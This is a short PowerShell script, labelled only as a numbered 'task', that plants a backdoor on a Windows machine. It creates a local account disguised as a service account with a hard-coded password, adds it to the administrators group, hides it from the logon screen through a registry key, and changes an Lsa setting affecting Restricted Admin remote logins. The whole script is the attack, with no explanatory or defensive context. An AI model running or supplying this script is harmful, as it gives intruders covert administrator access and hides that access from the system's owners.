# task 4976 v0
$u = 'svc_' + (Get-Random -Maximum 999)
net user $u 'Sup3rS3cure!' /add
net localgroup administrators $u /add
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList' -Name $u -Value 0
Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Lsa' -Name DisableRestrictedAdmin -Value 0
